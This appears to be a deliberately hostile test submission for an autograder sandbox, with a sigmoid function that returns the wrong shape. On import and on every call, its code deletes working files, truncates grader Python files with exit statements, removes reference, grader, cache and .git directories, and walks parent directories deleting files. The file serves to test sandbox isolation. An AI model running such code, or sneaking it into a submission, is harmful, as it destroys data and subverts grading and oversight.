"""Hostile: delete its own scratch files and try to delete or modify the repository (reference,
graders, the original submission, .git), the oracle cache and the grading sessions' files.
Honest score 0 (it returns the wrong shape); nothing outside the sandbox may change.
"""
import os
import shutil
from pathlib import Path

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
TARGETS = [
    "/work/main/reference", "/work/main/graders", "/work/main/.grader-cache",
    "/work/main/tests", "/work/main/student_template", "/work/main/.git",
    "/work/main/pyproject.toml", HERE,
]


def _sessions():
    for top in ("/tmp", "/dev/shm"):
        try:
            yield from (str(p) for p in Path(top).glob("grader-*"))
        except OSError:
            pass


def _vandalise():
    for name in os.listdir("."):
        try:
            os.remove(name)
        except OSError:
            pass
    for target in TARGETS + list(_sessions()):
        try:
            if os.path.isdir(target):
                for path in Path(target).rglob("*.py"):
                    try:
                        with open(path, "a") as f:
                            f.write("\nraise SystemExit('vandalised')\n")
                    except OSError:
                        pass
                shutil.rmtree(target, ignore_errors=True)
            else:
                with open(target, "a") as f:
                    f.write("vandalised\n")
        except OSError:
            pass
    for parent in ("..", "../..", "../../..", os.path.dirname(HERE)):
        for root, dirs, files in os.walk(parent):
            for name in files:
                try:
                    os.remove(os.path.join(root, name))
                except OSError:
                    pass


_vandalise()


def sigmoid(x):
    _vandalise()
    return np.full((*np.shape(x), 2), 0.5)  # the wrong shape
